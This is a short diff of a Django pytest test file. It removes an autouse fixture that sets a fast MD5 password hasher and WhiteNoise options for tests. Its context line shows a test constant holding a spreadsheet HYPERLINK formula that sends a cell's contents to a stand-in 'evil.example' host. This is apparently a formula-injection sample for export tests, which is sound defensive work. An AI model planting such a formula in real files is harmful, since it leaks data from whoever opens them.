@@ -47,14 +47,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 MODELS = (Assessment, Answer, PopulationGroup, Threat, ComponentTag, Indicator, Response)
 
 
-@pytest.fixture(autouse=True)
-def _fast_and_quiet(settings):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-    # No collectstatic in tests: WhiteNoise serves from the finders and stays quiet.
-    settings.WHITENOISE_USE_FINDERS = True
-    settings.WHITENOISE_AUTOREFRESH = True
-
-
 @pytest.fixture
 def quick_render(monkeypatch):
     """Approval renders the brief; these tests need only the approved status."""
